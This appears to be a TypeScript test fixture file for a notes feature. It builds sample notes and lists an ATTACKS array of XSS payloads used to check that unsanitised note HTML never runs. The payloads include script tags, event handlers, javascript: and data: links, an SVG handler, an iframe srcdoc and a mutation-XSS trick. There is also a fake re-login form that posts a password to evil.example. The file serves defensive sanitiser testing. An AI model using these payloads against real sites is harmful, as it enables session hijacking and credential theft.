import type { Note, NoteRow } from '@console/api/notes/schema';
import type { UserRef } from '@console/api/users/schema';
import { NOW } from '../scrapes/fixtures.ts';
import { userRefOf } from '../users/userRef.ts';
import type { Wire } from '../wire.ts';

type Given = Partial<Omit<Note, '@id' | '@type' | 'user'>> & {
  id: number;
  type?: 'EntityNote' | 'ScrapeNote' | 'SystemNote';
  user?: UserRef | null;
};

/** A complete note. Fields that are not given have ordinary values. */
export const buildNote = ({
  type = 'EntityNote',
  ...given
}: Given): Wire<NoteRow> & { type: string } => ({
  title: 'Entity Review – send_for_review',
  content: '<p>Looked at the career page.</p>',
  url: null,
  job_count: null,
  pinned: false,
  archived: false,
  created: NOW - 3600,
  user: userRefOf('ROLE_DQ'),
  entity_id: 1,
  scrape_id: null,
  scrape: null,
  version: 1,
  updated_at: given.created ?? NOW - 3600,
  ...given,
  type,
  '@id': `/api/notes/${given.id}`,
  '@type': type,
});

/** A note with everything that the editor can write. */
export const RICH_NOTE =
  '<p>The <strong>career page</strong> moved, <em>again</em>.</p><ul><li>80 jobs on Monday</li><li>none today</li></ul>' +
  '<ol><li>Ask the employer</li></ol><p>See <a href="https://www.acme.example/careers" rel="noopener noreferrer">the page</a>.</p>' +
  '<blockquote>We are hiring!</blockquote><pre><code>&lt;div id="jobs"&gt;&lt;/div&gt;</code></pre>';

/**
 * Malicious notes, as a back end without a sanitiser might send them. Each sets `window.attacked`
 * when it runs, and none may run wherever it is shown.
 */
export const ATTACKS: readonly string[] = [
  '<p>Before</p><script>window.attacked = "script"</script><p>after the script</p>',
  '<p>Picture <img src="x" onerror="window.attacked = \'onerror\'"></p>',
  '<p><a href="javascript:window.attacked = \'link\'">Click me</a></p>',
  '<p><a href="JaVa\tScRiPt:window.attacked = \'spaced link\'">Click me, too</a></p>',
  '<svg><animate onbegin="window.attacked = \'svg\'" attributeName="x" dur="1s"></animate></svg><p>Drawing</p>',
  '<p style="background:url(javascript:window.attacked=1)" onmouseover="window.attacked = \'hover\'">Hover</p>',
  '<iframe srcdoc="<script>parent.attacked = \'frame\'</script>"></iframe><p>Frame</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.attacked=1&gt;"></table></mtext></math><p>Sum</p>',
  '<p><a href="data:text/html,<script>opener.attacked=1</script>" target="_blank">Download</a></p>',
  '<form action="https://evil.example"><input name="password"><button>Sign in again</button></form><p>Form</p>',
];

/** A note pasted from a word processor. */
export const PASTED_NOTE =
  '<p class="MsoNormal" style="margin:0cm;font-family:Calibri"><b><span lang="EN-US" style="color:#1F497D">Pasted</span></b><o:p>&nbsp;</o:p></p>' +
  '<!--[if gte mso 9]><xml><w:WordDocument></w:WordDocument></xml><![endif]--><p>from a <font color="red">document</font></p>';
